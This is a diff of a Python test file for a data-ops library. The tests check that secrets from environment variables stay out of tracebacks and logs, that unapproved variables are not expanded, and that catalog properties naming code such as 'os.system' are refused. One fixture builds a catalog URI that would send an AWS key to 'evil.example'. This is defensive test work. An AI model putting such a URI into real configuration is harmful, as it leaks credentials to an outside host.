@@ -1,6 +1,7 @@
 """A team folder becomes a frozen value, or a list of everything that is wrong with it."""
 
 import hashlib
+import logging
 import os
 import re
 import traceback
@@ -11,7 +12,7 @@ import pytest
 from dataops_lib import files as files_
 from dataops_lib import teams
 from dataops_lib.errors import DataError, TeamError, UsageError
-from dataops_lib.teams import folders
+from dataops_lib.teams import folders, variables
 from dataops_lib.teams import team as teams_team
 
 SECRET = "hunter2-correct-horse"
@@ -565,6 +566,7 @@ def test_what_only_sounds_like_a_secret_may_be_written(shop, key, value):
 
 
 def test_a_secret_comes_from_the_environment_and_is_shown_nowhere(shop, monkeypatch):
+    monkeypatch.setenv("DATAOPS_ALLOW", "SHOP_PASSWORD, SHOP_TOKEN")
     with_catalog(
         shop, uri="postgresql://u:${SHOP_PASSWORD}@host/db", key="token", value="${SHOP_TOKEN}"
     )
@@ -580,13 +582,13 @@ def test_a_secret_comes_from_the_environment_and_is_shown_nowhere(shop, monkeypa
 
 
 def test_a_secret_stays_out_of_the_traceback_of_a_catalog_that_is_down(shop, monkeypatch):
-    monkeypatch.setenv("SHOP_TOKEN", SECRET)
-    with_catalog(shop, uri="http://127.0.0.1:9", key="token", value="${SHOP_TOKEN}")
+    monkeypatch.setenv("DATAOPS_SHOP_TOKEN", SECRET)
+    with_catalog(shop, uri="http://127.0.0.1:9", key="token", value="${DATAOPS_SHOP_TOKEN}")
     team = load(shop)
     try:
         from dataops_lib import warehouse
 
-        warehouse.open(team)
+        warehouse.open(team.catalog, create=True)
     except Exception:
         assert SECRET not in traceback.format_exc()
     else:
@@ -594,9 +596,79 @@ def test_a_secret_stays_out_of_the_traceback_of_a_catalog_that_is_down(shop, mon
 
 
 def test_a_variable_that_is_empty_is_set(shop, monkeypatch):
-    with_catalog(shop, key="token", value="${SHOP_TOKEN}")
-    monkeypatch.setenv("SHOP_TOKEN", "")
+    with_catalog(shop, key="token", value="${DATAOPS_TOKEN}")
+    monkeypatch.setenv("DATAOPS_TOKEN", "")
     assert load(shop).catalog.properties["token"] == ""
+
+
+def test_a_variable_that_nobody_allowed_is_sent_nowhere(shop, monkeypatch):
+    monkeypatch.setenv("AWS_KEY", SECRET)
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(shop.parent / "settings"))
+    with_catalog(shop, uri="https://evil.example/${AWS_KEY}")
+    with pytest.raises(
+        TeamError, match="uses \\$\\{AWS_KEY\\}, which nobody has allowed"
+    ) as caught:
+        load(shop)
+    assert "`dataops allow shop`" in str(caught.value)
+    assert SECRET not in str(caught.value)
+
+
+def test_what_is_allowed_once_is_asked_again_when_the_address_changes(shop, monkeypatch):
+    monkeypatch.setenv("LAKE_TOKEN", SECRET)
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(shop.parent / "settings"))
+    with_catalog(shop, key="token", value="${LAKE_TOKEN}")
+    catalog = teams_team.team_file(shop).catalog
+    assert variables.to_be_allowed(catalog, shop) == (("token", "LAKE_TOKEN"),)
+    variables.allow(catalog, shop)
+    assert variables.to_be_allowed(catalog, shop) == ()
+    assert load(shop).catalog.properties["token"] == SECRET
+    with_catalog(shop, uri="https://other.example", key="token", value="${LAKE_TOKEN}")
+    with pytest.raises(TeamError, match="nobody has allowed"):
+        load(shop)
+
+
+def test_no_log_record_of_any_library_holds_a_secret(shop, monkeypatch, caplog):
+    monkeypatch.setenv("DATAOPS_TOKEN", SECRET)
+    with_catalog(shop, key="token", value="${DATAOPS_TOKEN}")
+    load(shop)
+    log = logging.getLogger("pyiceberg.io")
+    log.warning("Could not initialize %s", {"token": SECRET})
+    try:
+        raise ValueError(f"https://host/?token={SECRET}")
+    except ValueError:
+        log.warning("failed", exc_info=True)
+    assert "Could not initialize {'token': '***'}" in caplog.text
+    assert "https://host/?token=***" in caplog.text
+    assert SECRET not in caplog.text
+
+
+@pytest.mark.parametrize("key", ["py-catalog-impl", "py-io-impl", "auth.impl"])
+def test_a_property_that_names_code_is_refused(shop, key):
+    with_catalog(shop, key=key, value="os.system")
+    (problem,) = problems_of(shop)
+    assert f"property '{key}' names code to be run" in problem
+
+
+def test_settings_of_the_machine_are_not_merged_into_a_teams_catalog(shop, monkeypatch):
+    from dataops_lib import warehouse
+
+    monkeypatch.setenv("PYICEBERG_CATALOG__DEFAULT__CREDENTIAL", SECRET)
+    (shop / "c.db").touch()
+    with_catalog(shop, uri=f"sqlite:///{shop / 'c.db'}")
+    text = (shop / "team.yaml").read_text().replace("type: rest", "type: sql")
+    (shop / "team.yaml").write_text(text)
+    assert SECRET not in str(warehouse.open(load(shop).catalog).properties)
+
+
+def test_an_sqlite_catalog_that_is_not_there_is_an_error_and_no_new_file(shop):
+    from dataops_lib import warehouse
+
+    with_catalog(shop, uri=f"sqlite:///{shop / 'typo.db'}")
+    text = (shop / "team.yaml").read_text().replace("type: rest", "type: sql")
+    (shop / "team.yaml").write_text(text)
+    with pytest.raises(DataError, match=r"there is no SQLite catalog .*typo\.db; correct `uri:`"):
+        warehouse.open(load(shop).catalog)
+    assert not (shop / "typo.db").exists()
 
 
 # ---- who is new, and who was on call
